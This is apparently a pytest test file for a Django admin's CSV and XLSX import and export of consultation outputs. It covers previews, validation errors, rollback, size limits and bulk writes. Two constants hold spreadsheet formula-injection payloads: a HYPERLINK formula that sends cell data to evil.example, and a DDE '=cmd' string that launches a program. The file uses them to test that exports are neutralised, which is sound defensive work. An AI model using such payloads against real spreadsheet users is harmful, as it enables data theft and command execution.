import csv
import io

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from taggit.models import Tag

from insights.models import Status
from search.models import Kind, SearchEntry
from tests.factories import (
    make_consultation,
    make_group,
    make_organisation,
    make_output,
    make_part,
    make_theme,
)
from workinggroups.models import Output, Stage
from workinggroups.resources import OutputResource

COLUMNS = ["reference", "working_group", "stage", "order", "text", "themes", "tags", "partners"]
CSV_FORMAT = "0"  # the first of the admin's formats: CSV, then XLSX
XLSX_FORMAT = "1"


def exported_rows(paper):
    dataset = OutputResource().export(Output.objects.filter(reference__startswith="SGH24-P1-WG3"))
    return dataset.headers, [dict(zip(dataset.headers, row, strict=True)) for row in dataset]


def as_csv(headers, rows):
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=headers)
    writer.writeheader()
    writer.writerows(rows)
    return SimpleUploadedFile("outputs.csv", buffer.getvalue().encode(), "text/csv")


def preview(client, upload, input_format=CSV_FORMAT):
    return client.post(
        reverse("admin:workinggroups_output_import"),
        {"import_file": upload, "format": input_format, "resource": "0"},
    )


def confirm(client, response):
    form = response.context["confirm_form"]
    data = {name: form[name].value() for name in form.fields}
    return client.post(reverse("admin:workinggroups_output_process_import"), data, follow=True)


def snapshot():
    return list(
        Output.objects.order_by("pk").values_list("pk", "text", "stage", "order", "version")
    )


def test_the_export_names_groups_themes_and_partners_by_slug(editor_client, paper):
    response = editor_client.post(
        reverse("admin:workinggroups_output_export"),
        {"format": CSV_FORMAT, "resource": "0", "export_items": [], **{
            f"outputresource_{column}": "on" for column in COLUMNS}},
    )  # fmt: skip
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert list(rows[0]) == COLUMNS
    assert len(rows) == Output.objects.count()
    row = next(r for r in rows if r["reference"] == "SGH24-P1-WG3-PS-02")
    output = Output.objects.get(reference="SGH24-P1-WG3-PS-02")
    assert row["working_group"] == output.working_group.slug
    assert row["text"] == output.text
    assert set(row["themes"].split(",")) == set(output.themes.values_list("slug", flat=True))


def test_an_import_previews_then_writes_on_confirmation_with_history(editor_client, paper):
    headers, rows = exported_rows(paper)
    rows[0]["text"] = "Changed by import."
    rows[0]["tags"] = "imported, spreadsheet"
    reference = rows[0]["reference"]
    before = snapshot()

    response = preview(editor_client, as_csv(headers, rows))
    assert response.status_code == 200
    assert "confirm_form" in response.context
    assert "<ins" in response.content.decode()
    assert "Changed by import" in response.content.decode()
    assert snapshot() == before, "the preview writes nothing"

    done = confirm(editor_client, response)
    assert done.status_code == 200
    output = Output.objects.get(reference=reference)
    assert output.text == "Changed by import."
    assert sorted(output.tags.names()) == ["imported", "spreadsheet"]
    latest = output.history.first()
    assert latest.history_user.username == "edna"
    assert latest.tag_names == "imported, spreadsheet"


@pytest.mark.parametrize(
    ("column", "bad_value", "message"),
    [
        ("working_group", "no-such-group", "Unknown working group: no-such-group"),
        ("stage", "someday", "is not a valid choice"),
        ("themes", "no-such-theme", "Unknown theme: no-such-theme"),
        ("themes", "", "Give at least one theme slug."),
        ("partners", "nobody", "Unknown organisation: nobody"),
        ("order", "first", "Give a whole number, not “first”."),
    ],
)
def test_an_import_with_one_bad_row_writes_nothing(
    publisher_client, paper, column, bad_value, message
):
    headers, rows = exported_rows(paper)
    for row in rows:
        row["text"] = row["text"] + " (edited)"
    rows.append(dict(rows[0], reference="", order="99", text="A brand new output."))
    rows[2][column] = bad_value
    before, tags_before = snapshot(), sorted(Tag.objects.values_list("name", flat=True))

    # A publisher: an editor may not add outputs to the published paper at all.
    response = preview(publisher_client, as_csv(headers, rows))
    assert response.status_code == 200
    assert "confirm_form" not in response.context
    assert message in response.content.decode()
    result = response.context["result"]
    assert not result.has_errors()
    assert [row.number for row in result.invalid_rows] == [3]

    assert snapshot() == before
    assert sorted(Tag.objects.values_list("name", flat=True)) == tags_before
    assert not Output.objects.filter(text="A brand new output.").exists()


def test_even_a_direct_import_with_one_bad_row_rolls_everything_back(paper):
    headers, rows = exported_rows(paper)
    rows[0]["text"] = "Would be written."
    rows[1]["themes"] = "no-such-theme"
    dataset = tablib.Dataset(*[[row[h] for h in headers] for row in rows], headers=headers)
    before = snapshot()
    result = OutputResource().import_data(dataset, dry_run=False)
    assert result.has_validation_errors()
    assert snapshot() == before


def test_outputs_can_be_imported_from_an_xlsx_file(editor_client, paper):
    headers, rows = exported_rows(paper)
    rows[0]["text"] = "From a spreadsheet."
    dataset = tablib.Dataset(*[[row[h] for h in headers] for row in rows], headers=headers)
    upload = SimpleUploadedFile(
        "outputs.xlsx",
        dataset.export("xlsx"),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
    response = preview(editor_client, upload, XLSX_FORMAT)
    assert "confirm_form" in response.context, response.content.decode()[:2000]
    confirm(editor_client, response)
    assert Output.objects.get(reference=rows[0]["reference"]).text == "From a spreadsheet."


def test_a_staff_member_without_add_and_change_rights_cannot_import(
    client, paper, django_user_model
):
    viewer = django_user_model.objects.create_user("viewer", is_staff=True)
    viewer.user_permissions.add(
        *django_user_model._meta.get_field("user_permissions").related_model.objects.filter(
            codename="view_output"
        )
    )
    client.force_login(viewer)
    assert client.get(reverse("admin:workinggroups_output_import")).status_code == 403


def test_a_confirmed_import_whose_file_turns_bad_writes_nothing(editor_client, paper):
    headers, rows = exported_rows(paper)
    rows[0]["text"] = "Would be written."
    response = preview(editor_client, as_csv(headers, rows))
    form = response.context["confirm_form"]
    # The stored upload is replaced between preview and confirmation.
    rows[1]["stage"] = "someday"
    with open(form["import_file_name"].value(), "wb") as stored:
        stored.write(as_csv(headers, rows).read())
    before = snapshot()

    done = confirm(editor_client, response)

    assert snapshot() == before
    assert not Output.objects.filter(text="Would be written.").exists()
    html = done.content.decode()
    assert "Nothing was imported: row 2 is not valid." in html
    assert "Import finished" not in html


FORMULA_TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FORMULA_TAG = "=cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_the_export_writes_formulas_as_inert_text_in_csv_and_xlsx():
    output = make_output(text=FORMULA_TEXT, tags=[FORMULA_TAG])
    dataset = OutputResource().export(Output.objects.filter(pk=output.pk))

    row = next(csv.DictReader(io.StringIO(dataset.export("csv"))))
    assert row["text"] == "'" + FORMULA_TEXT
    assert row["tags"] == "'" + FORMULA_TAG

    sheet = openpyxl.load_workbook(io.BytesIO(dataset.export("xlsx"))).active
    cells = [cell for cell in sheet[2] if cell.value]
    assert all(cell.data_type == "s" for cell in cells)
    assert "'" + FORMULA_TEXT in [cell.value for cell in cells]


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(editor_client, settings):
    settings.IMPORT_MAX_BYTES = 1_000
    upload = SimpleUploadedFile("big.csv", b"reference,text\n" + b"x" * 2_000, "text/csv")

    response = preview(editor_client, upload)

    assert "confirm_form" not in response.context
    assert "an import takes at most 0.001 MB" in response.content.decode()


def test_a_file_over_the_row_limit_is_refused_with_its_row_count(editor_client, settings):
    settings.IMPORT_MAX_ROWS = 3
    upload = SimpleUploadedFile("rows.csv", b"reference,text\n" + b"a,b\n" * 4, "text/csv")

    response = preview(editor_client, upload)

    assert "confirm_form" not in response.context
    assert "The file has 4 rows; an import takes at most 3." in response.content.decode()


def test_a_file_not_in_utf8_names_the_row_and_the_encoding(editor_client, paper):
    headers, rows = exported_rows(paper)
    rows[1]["text"] = "Caf\u00e9 culture"
    upload = as_csv(headers, rows)
    upload = SimpleUploadedFile("latin.csv", upload.read().decode().encode("latin-1"), "text/csv")

    response = preview(editor_client, upload)

    html = response.content.decode()
    assert "Row 3 is not UTF-8 text" in html
    assert "CSV UTF-8" in html
    assert "UnicodeDecodeError" not in html


def test_a_file_in_the_wrong_format_says_which_format_was_tried(editor_client):
    upload = SimpleUploadedFile("outputs.csv", b"reference,text\na,b\n", "text/csv")

    response = preview(editor_client, upload, input_format=XLSX_FORMAT)

    html = response.content.decode()
    assert "could not be read as xlsx" in html.lower()
    assert "encountered while trying" not in html


@pytest.mark.parametrize("text", ["-1 in 4 councils lack the skills.", FORMULA_TEXT])
def test_an_exported_file_imported_again_keeps_the_original_text(publisher_client, paper, text):
    output = Output.objects.get(reference="SGH24-P1-WG3-PS-02")
    output.text = text
    output.save()
    headers, rows = exported_rows(paper)
    assert next(r for r in rows if r["reference"] == output.reference)["text"] == "'" + text

    confirm(publisher_client, preview(publisher_client, as_csv(headers, rows)))

    output.refresh_from_db()
    assert output.text == text


WRITES = ("INSERT", "UPDATE", "DELETE", "SAVEPOINT", "BEGIN", "RELEASE", "ROLLBACK")


def statements(queries):
    return [q["sql"].split()[0].upper() for q in queries]


def test_a_preview_opens_no_transaction_and_writes_nothing(publisher_client, paper):
    # On SQLite a transaction holds the write lock: every other editor's save would
    # wait for the preview of a large file, then fail.
    headers, rows = exported_rows(paper)
    for row in rows:
        row["text"] += " (edited)"
    rows.append(dict(rows[0], reference="", order="99", text="A brand new output."))
    upload = as_csv(headers, rows)

    with CaptureQueriesContext(connection) as queries:
        response = preview(publisher_client, upload)

    assert "confirm_form" in response.context
    assert "A brand new output." in response.content.decode()
    sql = [q["sql"] for q in queries]
    session = [q for q in sql if "django_session" in q]
    writes = [q for q in sql if q.split()[0].upper() in WRITES and q not in session]
    control = [q for q in writes if q.split()[0].upper() in ("SAVEPOINT", "RELEASE", "ROLLBACK")]
    # The session's own save (one atomic block) is all that is written.
    assert [q for q in writes if q not in control] == []
    assert len(control) <= 2 * len([q for q in session if not q.startswith("SELECT")])


def test_a_confirmed_file_is_checked_whole_before_any_row_is_written(editor_client, paper):
    # So the one transaction that writes is as short as it can be, and a bad last
    # row never leaves the rows before it written, even for a moment.
    headers, rows = exported_rows(paper)
    rows[0]["text"] = "Would be written."
    response = preview(editor_client, as_csv(headers, rows))
    form = response.context["confirm_form"]
    rows[-1]["stage"] = "someday"
    with open(form["import_file_name"].value(), "wb") as stored:
        stored.write(as_csv(headers, rows).read())

    with CaptureQueriesContext(connection) as queries:
        confirm(editor_client, response)

    content = [q["sql"] for q in queries if "workinggroups_" in q["sql"]]
    assert content, "the rows were read"
    assert not [q for q in content if q.split()[0].upper() in ("INSERT", "UPDATE", "DELETE")]


def test_two_new_rows_with_the_same_reference_are_refused_in_the_preview(publisher_client, paper):
    headers, rows = exported_rows(paper)
    new = dict(rows[0], reference="", order="99", text="A brand new output.")
    response = preview(publisher_client, as_csv(headers, [new, dict(new, text="Another.")]))

    assert "confirm_form" not in response.context
    assert "is taken: give the new output another order" in response.content.decode()
    assert [row.number for row in response.context["result"].invalid_rows] == [2]
    assert not Output.objects.filter(text="A brand new output.").exists()


def draft_rows(count, group, theme, partner, *, start=1):
    return tablib.Dataset(
        *[
            ("", group.slug, "collaboration", str(start + i), f"Imported action {i}.", theme.slug,
             "Data, skills", partner.slug)
            for i in range(count)
        ],
        headers=COLUMNS,
    )  # fmt: skip


def write_statements(queries):
    """The statements of the one transaction that writes (the check opens none)."""
    sql = [q["sql"] for q in queries]
    first = next(i for i, q in enumerate(sql) if q.startswith("SAVEPOINT"))
    last = max(i for i, q in enumerate(sql) if q.startswith("RELEASE SAVEPOINT"))
    return sql[first : last + 1]


@pytest.mark.parametrize("count", [10, 200])
@pytest.mark.parametrize("rows", ["new", "updated"])
def test_the_write_is_a_few_bulk_statements_however_many_rows(db, count, rows):
    # The write holds the database's lock (on SQLite, every other editor's save waits
    # for it): it is a few bulk statements, however many rows the file has.
    group = make_group(make_part(make_consultation(status=Status.DRAFT)))
    theme, partner = make_theme(), make_organisation()
    Tag.objects.create(name="data")
    make_output(group, stage=Stage.COLLABORATION, order=count + 1, tags=["skills"])
    dataset = draft_rows(count, group, theme, partner)
    if rows == "updated":
        OutputResource().import_data(dataset)
        exported = OutputResource().export(group.outputs.exclude(order=count + 1))
        edited = [
            {**row, "text": f"{row['text']} Edited.", "tags": "data"} for row in exported.dict
        ]
        dataset = tablib.Dataset(*[list(row.values()) for row in edited], headers=exported.headers)

    with CaptureQueriesContext(connection) as queries:
        result = OutputResource().import_data(dataset)

    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert result.totals[rows.removesuffix("d")] == count
    # The rows (or their versions, then their fields), their theme, partner and tag
    # links, their history and its links, and the content version: a statement for
    # each, or each batch of SQLite's 999 parameters (a row's save, links and record
    # alone took about 35).
    assert len(write_statements(queries.captured_queries)) <= 20
    assert group.outputs.count() == count + 1
    if rows == "updated":
        assert group.outputs.filter(text__endswith="Edited.", version=2).count() == count
        assert not group.outputs.filter(text__endswith="Edited.", tags__name="skills").exists()


def test_the_bulk_write_keeps_links_tags_history_and_search_as_a_save_would(
    editor, django_capture_on_commit_callbacks
):
    group = make_group(make_part(make_consultation(status=Status.DRAFT)))
    theme, partner = make_theme(), make_organisation()
    data = Tag.objects.create(name="data")
    changed = make_output(group, stage=Stage.COLLABORATION, order=9, tags=["old"], themes=[theme])
    records_before = changed.history.count()
    dataset = draft_rows(2, group, theme, partner)
    dataset.append([changed.reference, group.slug, "collaboration", "9", "Changed.", theme.slug,
                    "skills", ""])  # fmt: skip

    with django_capture_on_commit_callbacks(execute=True):
        result = OutputResource().import_data(dataset, user=editor)

    assert not result.has_errors()
    assert not result.has_validation_errors()
    new = list(group.outputs.filter(text__startswith="Imported").order_by("order"))
    assert [o.reference for o in new] == [f"{group.reference}-CO-01", f"{group.reference}-CO-02"]
    assert all(o.version == 1 and o.is_public is False and o.paper_position for o in new)
    assert list(new[0].themes.all()) == [theme]
    assert list(new[0].partners.all()) == [partner]
    # Tags are matched whatever their case, as taggit matches them; one tag per name.
    assert sorted(new[0].tags.names()) == ["data", "skills"]
    assert Tag.objects.filter(name__iexact="data").get() == data
    changed.refresh_from_db()
    assert (changed.text, changed.version) == ("Changed.", 2)
    assert list(changed.tags.names()) == ["skills"]
    assert list(changed.partners.all()) == []
    # One history record each, by the editor, with the links and tags as written.
    record = new[0].history.get()
    assert (record.history_type, record.history_user) == ("+", editor)
    assert record.tag_names == "data, skills"
    assert [link.theme for link in record.themes.all()] == [theme]
    assert [link.organisation for link in record.partners.all()] == [partner]
    latest = changed.history.first()
    assert (latest.history_type, latest.text, latest.tag_names) == ("~", "Changed.", "skills")
    assert changed.history.count() == records_before + 1
    # The search entries follow once the transaction commits.
    entry = SearchEntry.objects.get(kind=Kind.OUTPUT, object_id=new[1].pk)
    assert entry.reference == new[1].reference
    assert partner.name in entry.summary
    assert "skills" in SearchEntry.objects.get(kind=Kind.OUTPUT, object_id=changed.pk).summary
    # And the admin's log names the new rows.
    assert [row.object_id for row in result.valid_rows()] == [new[0].pk, new[1].pk, changed.pk]


def test_a_row_changed_by_someone_else_after_its_check_stops_the_whole_import(
    publisher_client, paper, monkeypatch
):
    headers, rows = exported_rows(paper)
    for row in rows:
        row["text"] += " (imported)"
    response = preview(publisher_client, as_csv(headers, rows))
    other = Output.objects.get(reference=rows[1]["reference"])
    check = OutputResource.import_data_inner

    def another_editor_saves_after_the_check(resource, *args, **kwargs):
        checked = check(resource, *args, **kwargs)
        other.text = "Saved by another editor."
        other.save()
        return checked

    monkeypatch.setattr(OutputResource, "import_data_inner", another_editor_saves_after_the_check)
    before = [row for row in snapshot() if row[0] != other.pk]
    done = confirm(publisher_client, response)

    assert done.status_code == 200
    page = done.content.decode()
    assert f"Nothing was imported: {other.reference} was changed or deleted by someone else" in page
    assert [row for row in snapshot() if row[0] != other.pk] == before, "no row was written"
    assert Output.objects.get(pk=other.pk).text == "Saved by another editor."


@pytest.mark.parametrize(
    ("column", "bad_value", "message"),
    [
        ("stage", "changes", "is not a valid choice"),
        ("working_group", "", "This field cannot be null."),
        ("order", "", "This field cannot be null."),
        ("order", "1.5", "Give a whole number, not “1.5”."),
        ("reference", "SGH24-NOPE-1", "No output has the reference SGH24-NOPE-1."),
    ],
)
def test_a_new_row_says_which_column_is_wrong_and_how(
    publisher_client, paper, column, bad_value, message
):
    # Each of these once stopped the row with a bare exception ("'changes' is not a
    # valid Stage", "Output has no working_group."), or, for 1.5, imported it as 1.
    headers, rows = exported_rows(paper)
    new = dict(rows[0], reference="", order="99", text="A brand new output.")
    new[column] = bad_value
    response = preview(publisher_client, as_csv(headers, [new]))

    result = response.context["result"]
    assert not result.has_errors(), "no exception: a message under the column"
    [invalid] = result.invalid_rows
    assert list(invalid.error_dict) == [column]
    assert message in response.content.decode()
    assert not Output.objects.filter(text="A brand new output.").exists()
